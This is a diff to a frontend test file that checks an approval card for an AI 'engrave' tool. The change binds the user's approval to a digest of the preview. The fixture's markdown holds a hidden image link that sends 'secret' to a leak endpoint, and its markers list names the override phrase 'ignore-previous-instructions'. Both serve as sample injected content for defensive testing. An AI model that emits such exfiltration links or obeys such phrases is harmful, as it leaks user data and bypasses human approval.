@@ -11,6 +11,7 @@ afterEach(cleanup);
 const preview = {
   kind: 'approval', repoId: 'handbook', path: 'engraved/2026-01-03-leave.md', title: 'Leave',
   markdown: '# Leave\n\nFive days carry over. ![x](http://127.0.0.1:9/leak?q=secret)', markers: ['ignore-previous-instructions'],
+  digest: 'a'.repeat(64),
 };
 const engraved = { kind: 'engraved', repoId: 'handbook', path: preview.path, commit: 'deadbeefcafe0123456789' };
 
@@ -57,7 +58,7 @@ describe('engrave approval', () => {
     fireEvent.click(approve);
     await screen.findByText('Done.');
     expect(confirmed()).toHaveLength(1);
-    expect(confirmed()[0]!.body).toMatchObject({ name: 'stone_engrave', confirm: true, conversationId: 'c1', repoId: 'handbook' });
+    expect(confirmed()[0]!.body).toMatchObject({ name: 'stone_engrave', confirm: true, approval: preview.digest, conversationId: 'c1', repoId: 'handbook' });
     expect(screen.getByText(/as commit/).textContent).toContain('deadbeefcafe');
   });
 
@@ -87,6 +88,7 @@ describe('engrave approval', () => {
     fireEvent.click(approve);
     await screen.findByText(/Engraved engraved\/2026-01-03-leave.md as commit deadbeefcafe/);
     expect(bg.ofType('conversations/engrave').map((m) => m.confirm)).toEqual([undefined, true]);
+    expect(bg.ofType('conversations/engrave')[1]).toEqual({ type: 'conversations/engrave', id: 'c1', confirm: true, approval: preview.digest });
   });
 
   it('Escape on the card declines', async () => {
